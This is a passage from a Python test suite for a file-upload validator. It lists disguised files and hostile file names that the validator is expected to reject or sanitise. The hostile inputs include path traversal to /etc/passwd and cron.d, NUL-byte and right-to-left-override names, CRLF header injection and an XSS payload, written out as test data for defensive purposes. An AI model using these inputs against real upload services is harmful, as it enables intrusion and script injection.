        )
    ]
    return (
        svgs
        + archives
        + [
            Case("SVG as itself", "a.svg", "image/svg+xml", lambda: SVG, NOT_ACCEPTED),
            Case("SVG with the type of a PNG", "a.svg", PNG, lambda: SVG, NOT_ACCEPTED),
            Case("HTML as JPEG", "a.jpg", JPEG, lambda: HTML, MISMATCH),
            Case("HTML as itself", "a.html", "text/html", lambda: HTML, NOT_ACCEPTED),
            Case("HTML with the name of a picture", "a.jpg", "text/html", lambda: HTML, NOT_ACCEPTED),
            Case("XHTML as PDF", "a.pdf", PDF, lambda: b"<?xml version='1.0'?>" + HTML, MISMATCH),
            Case("EICAR as PDF", "a.pdf", PDF, lambda: EICAR, MISMATCH),
            Case("EICAR as JPEG", "a.jpg", JPEG, lambda: EICAR, MISMATCH),
            Case("EICAR as text", "eicar.txt", "text/plain", lambda: EICAR, NOT_ACCEPTED),
            Case("EICAR as a command", "eicar.com", "application/octet-stream", lambda: EICAR, NOT_ACCEPTED),
            Case("Program as PDF", "a.pdf", PDF, lambda: b"MZ\x90\x00" + bytes(500), MISMATCH),
            Case("ELF as PNG", "a.png", PNG, lambda: b"\x7fELF" + bytes(500), MISMATCH),
            Case("GIF as itself", "a.gif", "image/gif", lambda: encoded(picture(), "GIF"), NOT_ACCEPTED),
            Case("TIFF as JPEG", "a.jpg", JPEG, lambda: encoded(picture(), "TIFF"), MISMATCH),
            Case("PNG as JPEG", "a.jpg", JPEG, png, MISMATCH),
            Case("JPEG as PDF", "a.pdf", PDF, jpeg, MISMATCH),
            Case("PDF as PNG", "a.png", PNG, pdf, MISMATCH),
            Case("AVIF as HEIC", "a.heic", HEIC, lambda: encoded(picture(), "AVIF"), MISMATCH),
            Case("PNG with the type of a PDF", "a.png", PDF, png, MISMATCH),
            Case(
                "Word document as itself", "a.docx", "application/octet-stream", word_document, NOT_ACCEPTED
            ),
            Case("nothing", "a.pdf", PDF, lambda: b"", ("EMPTY",)),
            Case("nothing, of a type that is not taken", "a.exe", "", lambda: b"", ("EMPTY",)),
            Case("zeros", "a.pdf", PDF, lambda: bytes(10_000), MISMATCH),
            Case("21 MB", "a.pdf", PDF, lambda: b"%PDF-1.7\n" + bytes(21 * 1024 * 1024), TOO_LARGE),
            Case("a name that goes up", "../../etc/passwd", "", pdf, NOT_ACCEPTED),
            Case("a name that goes up to a PDF", "../../etc/cron.d/a.pdf", PDF, pdf, saved_as="a.pdf"),
            Case(
                "a name of another system",
                "C:\\Users\\camille\\..\\fiche.pdf",
                PDF,
                pdf,
                saved_as="fiche.pdf",
            ),
            Case("a name with NUL before its extension", "a.exe\0.pdf", PDF, pdf, saved_as="a.exe.pdf"),
            Case("a name with NUL after its extension", "a.pdf\0.exe", PDF, pdf, NOT_ACCEPTED),
            Case("a name from right to left", "facture\u202efdp.exe", PDF, pdf, NOT_ACCEPTED),
            Case(
                "a name from right to left that is a PDF's",
                "fac\u202eture\u2066.pdf",
                PDF,
                pdf,
                saved_as="facture.pdf",
            ),
            Case(
                "a name with line ends",
                "a\r\nSet-Cookie: a=b\r\n.pdf",
                PDF,
                pdf,
                saved_as="a Set-Cookie_ a=b.pdf",
            ),
            Case(
                "a name with quotes and angles",
                '"><img src=x onerror=alert(1)>.pdf',
                PDF,
                pdf,
                saved_as="___img src=x onerror=alert(1)_.pdf",
            ),
            Case("a name of a device", "CON.pdf", PDF, pdf, saved_as="_CON.pdf"),
            Case("a hidden name", ".htaccess", PDF, pdf, saved_as="htaccess.pdf"),
            Case("two extensions", "facture.pdf.exe", PDF, pdf, NOT_ACCEPTED),
            Case("two extensions, the last a PDF's", "facture.exe.pdf", PDF, pdf, saved_as="facture.exe.pdf"),
            Case("a name of 5000 letters", "é" * 5000 + ".pdf", PDF, pdf, saved_as="é" * 196 + ".pdf"),
            Case("an unheard-of extension of a PDF", "a.pdfx", PDF, pdf, NOT_ACCEPTED),
        ]
    )


CASES: list[Case] = _pdf_cases() + _picture_cases() + _disguise_cases()
